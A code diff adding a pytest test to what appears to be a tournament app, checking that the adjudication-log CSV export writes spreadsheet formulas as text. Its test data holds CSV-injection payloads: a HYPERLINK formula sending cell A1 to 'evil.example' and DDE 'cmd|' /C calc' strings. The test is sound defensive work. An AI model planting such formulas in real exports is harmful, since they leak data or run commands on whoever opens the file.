@@ -496,7 +496,7 @@ def test_the_log_exports_every_action(client, tournament, round_, sheet, staff):
     assert "decision initialled" in page
     response = client.get(url("adjudication-log-csv", tournament.slug))
     text = b"".join(response.streaming_content).decode("utf-8-sig")
-    rows = list(csv.reader(io.StringIO(text)))
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
     assert rows[0] == ["time", "by", "action", "what"]
     assert [row[2] for row in rows[1:]] == [
         "complaint recorded",
@@ -504,6 +504,33 @@ def test_the_log_exports_every_action(client, tournament, round_, sheet, staff):
         "decision initialled",
     ]
     assert Event.objects.count() == 3
+
+
+@pytest.mark.parametrize(
+    ("username", "summary"),
+    [
+        ("@admin", '=HYPERLINK("https://evil.example/?"&A1;"Details")'),
+        ("+49", "+1"),
+        ("-x", "-cmd|' /C calc'!A0"),
+        ("orga", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("orga", "\tx"),
+        ("orga", "\rx"),
+    ],
+)
+def test_the_log_csv_writes_formulas_as_text(client, tournament, staff, username, summary):
+    """A user name or an old entry's text that a spreadsheet would run is written as text."""
+    Event.objects.create(
+        tournament=tournament,
+        by=factories.user(username=username),
+        action=Event.Action.OFFENCE,
+        summary=summary,
+    )
+    client.force_login(staff["organiser"])
+    response = client.get(url("adjudication-log-csv", tournament.slug))
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    _header, row = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    assert row[1] == ("'" + username if username != "orga" else "orga")
+    assert row[3] == "'" + summary
 
 
 def test_the_seats_points_include_penalties_and_deductions(
